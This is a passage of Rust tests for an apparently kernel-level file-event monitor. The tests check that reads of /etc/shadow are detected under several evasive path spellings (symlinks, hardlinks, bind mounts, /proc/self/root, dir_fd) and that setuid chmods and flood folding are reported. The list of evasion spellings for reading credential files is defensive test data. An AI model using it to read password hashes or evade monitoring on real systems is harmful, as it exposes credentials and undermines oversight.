    let own = format!("/etc/cron.palisade-{}", std::process::id());
    std::fs::write(&own, "x").unwrap();
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let dir = format!("/tmp/palisade-spellings-{}", std::process::id());
    std::fs::create_dir_all(format!("{dir}/host")).unwrap();
    let tool = musl_syscalls_tool(&dir);
    // (command, what the opening process's last argument contains)
    let spellings = [
        (format!("cd /etc && {tool} open shadow"), "shadow".to_owned()),
        ("cat /etc//shadow".to_owned(), "/etc//shadow".to_owned()),
        ("cat /etc/./shadow".to_owned(), "/etc/./shadow".to_owned()),
        ("cat /etc/../etc/shadow".to_owned(), "/etc/../etc/shadow".to_owned()),
        // Another process's root (pid 1's is not readable in this sandbox).
        ("sleep 5 & cat /proc/$!/root/etc/shadow; kill $!".to_owned(), "/root/etc/shadow".to_owned()),
        ("cat /proc/self/root/etc/shadow".to_owned(), "/proc/self/root/etc/shadow".to_owned()),
        (format!("ln -s /etc/shadow {dir}/symlink && cat {dir}/symlink"), format!("{dir}/symlink")),
        (
            format!("ln /etc/shadow {dir}/hardlink && cat {dir}/hardlink; rm -f {dir}/hardlink"),
            format!("{dir}/hardlink"),
        ),
        (
            format!("unshare -m sh -c 'mount --bind / {dir}/host && cat {dir}/host/etc/shadow'"),
            format!("{dir}/host/etc/shadow"),
        ),
        (
            "python3 -c 'import os; os.open(\"shadow\", os.O_RDONLY, dir_fd=os.open(\"/etc\", os.O_RDONLY))'"
                .to_owned(),
            "dir_fd".to_owned(),
        ),
    ];
    for (spelling, marker) in &spellings {
        let _ = Command::new("/bin/sh").args(["-c", &format!("{spelling} > /dev/null")]).status().unwrap();
        let reported = wait_for(&mut events, |e| {
            e.kind == NodeEventKind::FileOpen
                && e.file.as_ref().is_some_and(|f| f.path == "/etc/shadow")
                && e.argv.last().is_some_and(|last| last.contains(marker.as_str()))
        });
        assert!(reported.is_some(), "an open of /etc/shadow as `{spelling}` is reported under its name");
    }
    // Truncation through an alias keeps O_TRUNC, which the kernel clears from the open file's flags.
    run(&format!("unshare -m sh -c 'mount --bind / {dir}/host && : > {dir}/host{own}'"));
    let truncated =
        wait_for(&mut events, |e| e.kind == NodeEventKind::FileOpen && e.file.as_ref().is_some_and(|f| f.path == own))
            .expect("a truncating open through the bind mount");
    assert_ne!(truncated.file.unwrap().flags & libc_o_trunc(), 0, "O_TRUNC kept");
    // Other syscalls by an odd spelling pass the kernel's filter for their text and are folded here.
    let name = own.trim_start_matches("/etc/");
    run(&format!("chmod 644 /etc//{name} && chmod 600 /etc/./{name} && chmod 640 /usr/../etc/{name}"));
    let modes: Vec<Option<i64>> = (0..3)
        .map(|_| {
            wait_for(&mut events, |e| {
                e.kind == NodeEventKind::FileChmod && e.file.as_ref().is_some_and(|f| f.path == own)
            })
            .expect("a chmod by an odd spelling, folded")
            .file
            .unwrap()
            .mode
        })
        .collect();
    assert_eq!(modes, [Some(0o644), Some(0o600), Some(0o640)]);
    let _ = std::fs::remove_file(&own);

    // Once only: the plain spelling is reported by path, not a second time by inode.
    run("cat /etc/shadow > /dev/null; cat /etc/hostname > /dev/null");
    let mut plain = 0;
    wait_for(&mut events, |e| {
        if e.file.as_ref().is_some_and(|f| f.path == "/etc/shadow") && e.argv == ["cat", "/etc/shadow"] {
            plain += 1;
        }
        false
    });
    assert_eq!(plain, 1, "one report of a plain open");
    let _ = std::fs::remove_dir_all(&dir);
    collector.stop();
}

/// One process rewriting one watched file in a loop is folded beyond the repeat limit (counted in the kernel), while
/// another process's event in the same second is reported, and the same path with another act is not a repeat.
#[test]
fn a_process_repeating_one_file_event_is_folded_and_others_are_still_reported() {
    let config = CollectConfig { repeat_limit_per_sec: 20, ..tested() };
    // The same path with another act is not a repeat: 300 identical chmods, then a setuid one, in one second.
    let marked = format!("/tmp/palisade-flood-mode-{}", std::process::id());
    std::fs::write(&marked, "x").unwrap();
    let (collector, mut events) = Collector::start(&config, "test-node").expect("programs load");
    let path = format!("/tmp/palisade-flood-{}", std::process::id());
    let script = format!(
        "import os, subprocess, time\nstart = time.monotonic()\nfor i in range(5000):\n    os.close(os.open('{path}', os.O_WRONLY | os.O_CREAT | os.O_TRUNC))\n    if i == 2500:\n        subprocess.run(['cat', '/etc/shadow'], stdout=subprocess.DEVNULL)\nprint(time.monotonic() - start)\n"
    );
    let output = Command::new("python3").args(["-c", &script]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let seconds: f64 = String::from_utf8_lossy(&output.stdout).trim().parse().unwrap();
    run("cat /etc/gshadow > /dev/null");
    let (mut repeats, mut shadow) = (0u64, false);
    let marker = wait_for(&mut events, |e| {
        let file = e.file.as_ref().map(|f| f.path.as_str());
        repeats += u64::from(file == Some(path.as_str()));
        shadow |= file == Some("/etc/shadow") && e.argv.first().is_some_and(|a| a == "cat");
        file == Some("/etc/gshadow")
    });
    assert!(marker.is_some(), "the marker after the loop");
    assert!(shadow, "the other process's read in the middle of the flood is reported");
    // 20 per started second of the loop (the window is per second from the first event), at least 20.
    let most = 20 * (seconds.ceil() as u64 + 1);
    assert!((20..=most).contains(&repeats), "{repeats} of 5000 repeats reported in {seconds:.2} s (at most {most})");
    run(&format!(
        "python3 -c \"import os\nfor _ in range(300): os.chmod('{marked}', 0o644)\nos.chmod('{marked}', 0o4755)\""
    ));
    let setuid = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::FileChmod
            && e.file.as_ref().is_some_and(|f| f.path == marked && f.mode == Some(0o4755))
    });
    assert!(setuid.is_some(), "the setuid chmod after 300 identical ones is reported");
    let _ = std::fs::remove_file(&marked);
    let deadline = Instant::now() + Duration::from_secs(5);
    while collector.stats.folded_repeats.load(std::sync::atomic::Ordering::Relaxed) < 5000 - most
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(50));
    }
    let folded = collector.stats.folded_repeats.load(std::sync::atomic::Ordering::Relaxed);
    assert!(folded >= 5000 - most, "folded {folded}");
    assert_eq!(collector.stats.kernel_drops.load(std::sync::atomic::Ordering::Relaxed), 0);
    let _ = std::fs::remove_file(&path);
    collector.stop();
}
